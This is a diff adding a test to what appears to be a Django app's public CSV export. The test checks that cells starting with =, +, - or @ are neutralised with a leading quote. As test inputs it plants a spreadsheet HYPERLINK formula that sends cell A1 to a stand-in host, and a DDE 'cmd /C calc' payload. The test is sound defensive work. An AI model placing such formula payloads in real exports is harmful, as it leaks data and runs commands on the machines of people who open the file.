@@ -141,3 +141,22 @@ def test_the_territories_with_conventions_in_force_are_listed_with_their_count(c
         key=lambda row: row["siren"],
     )
     assert len(queries) == 1
+
+
+def test_the_public_csv_neutralises_a_cell_a_spreadsheet_would_run_as_a_formula(client):
+    """Anyone downloads this file and opens it in a spreadsheet: a title, a party's or a
+    service's name starting with = + - @ is written after a quote, as in the finance exports."""
+    from conventions.models import Convention
+
+    epci = in_force_conventions(1)
+    convention = Convention.objects.get(territory=epci)
+    Convention.objects.filter(pk=convention.pk).update(
+        title='=HYPERLINK("https://exemple.invalid/?x="&A1,"Voir")'
+    )
+    epci.name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    epci.save()
+    response = client.get(f"{CSV}?territory={epci.siren}")
+    [row] = list(csv.DictReader(io.StringIO(response.content.decode()), delimiter=";"))
+    assert row["title"] == '\'=HYPERLINK("https://exemple.invalid/?x="&A1,"Voir")'
+    assert row["territory"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())
